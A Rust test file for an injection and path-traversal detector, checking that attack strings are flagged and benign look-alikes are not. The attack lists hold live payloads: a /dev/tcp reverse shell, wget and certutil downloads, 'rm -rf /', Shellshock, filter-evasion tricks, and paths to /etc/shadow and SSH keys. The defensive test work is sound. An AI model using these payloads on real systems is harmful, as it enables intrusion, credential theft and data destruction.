//! Shell commands and ways through folders, and sentences and paths like them.

use super::check;
use crate::attack::{path, shell};

#[test]
fn commands_are_found_behind_signs() {
    let attacks = [
        ";id",
        "127.0.0.1;id",
        "x|whoami",
        "x&&cat /etc/passwd",
        "`id`",
        "$(id)",
        "$(wget http://198.51.100.7/a)",
        ";w'g'et http://x",
        ";c\\at /etc/passwd",
        ";w\"g\"et x",
        ";cat${IFS}/etc/passwd",
        "|cat$IFS$9/etc/passwd",
        ";wh$@oami",
        "; /bin/cat /etc/passwd",
        ";/usr/bin/id",
        ";/???/??t /etc/passwd",
        "\nid\n",
        "& ping -n 5 127.0.0.1",
        "| certutil -urlcache -f http://x",
        "&powershell -enc aaaa",
        "|dir c:\\",
        "cmd.exe /c dir",
        "wget http://198.51.100.7/x.sh",
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        "x;busybox wget http://x",
        "a||ls -la",
        ";sleep 5",
        "; rm -rf /",
        "{cat,/etc/passwd};{,ifconfig,eth0}",
        ";una$u\\me -a",
        "() { :;}; echo",
        "$SHELL -c id",
        ";'curl' http://x",
    ];
    let others = [
        "salt; pepper",
        "cat and dog",
        "R&D",
        "a|b|c",
        "this; that",
        "more; less; same",
        "tom & jerry",
        "id",
        "ls",
        "Mozilla/5.0 (X11; Linux x86_64)",
        "x; id=5",
        "one && two",
        "who is it; what is it",
        "AT&T; sort of",
        "$5 (five dollars)",
        "a `quoted` word",
        "echo chamber",
        "C:\\Users\\me",
        "find me; date me",
        "say \"hello\"",
        "touch wood",
        "text/html; charset=utf-8",
        "a=1; b=2; c=3",
        "hello\nworld",
        "last night; time flies",
        "(see below)",
        "it's | its",
        "price: $20",
        "sleep well",
    ];
    check(|value| shell::find(value, false, false), &attacks, &others);
}

#[test]
fn a_parameter_that_is_a_command_needs_no_sign() {
    assert!(shell::find(b"whoami", true, false).is_some());
    assert!(shell::find(b"whoami", false, false).is_none());
    assert!(shell::find(b"; sleep 5", false, true).is_none());
    assert!(shell::find(b"$(sleep 5)", false, true).is_some());
}

#[test]
fn ways_out_of_a_folder_are_found() {
    let attacks = [
        "../../../etc/passwd",
        "../config.php",
        "../../x",
        "..\\..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:/Windows/win.ini",
        "c:\\windows\\win.ini",
        "/proc/self/environ",
        "/proc/self/cmdline",
        "..;/manager/html",
        "....//....//etc/passwd",
        "..././..././x",
        "file:///etc/passwd",
        "./../config/database.php",
        "../.env",
        "../../../../boot.ini",
        "../web.config",
        "x/../../../y",
        "0x2e0x2e0x2f",
        "/root/.ssh/id_rsa",
        "..\\..\\..\\x",
        "../wp-config.php",
        "php://filter/x",
        "/etc/shadow",
        "d:/windows/system32/x",
    ];
    let others = [
        "images/logo.png",
        "../images/logo.png",
        "a/b/c",
        "./x",
        "...",
        "wait...what",
        "1..10",
        "v1.2.3",
        "/index.php",
        "config.php",
        "etc",
        "/etcetera",
        "a..b",
        "http://example.com/x",
        "the passwd file",
        "C:/Users/me/photo.jpg",
        "../",
        "..",
        "2024/../2025",
        "see ../docs for more words than two",
        "windows 10",
        "proc",
        "a\\b\\c",
        "~/x",
        "I read /etc/passwd today on my machine",
    ];
    check(|value| path::find(value, false), &attacks, &others);
    assert!(path::find(b"/static/../../../x", true).is_some());
    assert!(path::find(b"/docs/etc/passwd-file.html", true).is_none());
}
